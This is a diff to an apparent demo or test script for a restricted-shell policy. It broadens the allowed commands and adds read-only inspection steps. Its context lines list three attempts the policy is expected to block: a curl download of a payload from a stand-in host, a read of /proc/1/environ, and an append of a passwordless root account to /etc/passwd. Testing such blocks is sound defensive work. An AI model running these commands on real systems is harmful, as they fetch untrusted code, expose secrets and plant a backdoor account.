@@ -10,8 +10,10 @@ import sys
 
 from rshell import Policy, Runner
 
+COMMANDS = "echo printf test [ read cd cat head tail grep cut sort uniq find du awk ps help"
+
 POLICY = Policy(
-    allowed_commands=[f"rshell:{name}" for name in ("echo", "printf", "test", "[", "read", "cd", "cat", "head")],
+    allowed_commands=[f"rshell:{name}" for name in COMMANDS.split(" ")],
     allowed_paths=["/var/log:ro", "/etc:ro"],
     max_execution_time=5.0,
 )
@@ -51,6 +53,15 @@ STEPS = [
         "done | head -n 12",
         0,
     ),
+    ("Which files under it are the largest?", "find /var/log -type f -printf '%s %p\\n' | sort -rn | head -n 5", 0),
+    ("Which login shells are in use?", "cut -d : -f 7 /etc/passwd | sort | uniq -c | sort -rn | head -n 5", 0),
+    (
+        "How many accounts are people's?",
+        "awk -F : '$3 >= 1000 && $3 < 65534 { n++ } END { print n + 0, \"of\", NR }' /etc/passwd",
+        0,
+    ),
+    ("What system is it?", "grep -hE '^(NAME|VERSION)=' /etc/os-release || echo unknown", 0),
+    ("What uses the most memory?", "ps -eo pid,rss,comm --sort=-rss | head -n 5", 0),
     ("A command that the policy does not name:", "curl -s http://192.0.2.1/payload", 127),
     ("A file outside the granted paths:", "cat /proc/1/environ", 1),
     ("A write under a read-only policy:", "echo 'root2::0:0::/:/bin/sh' >> /etc/passwd", 2),
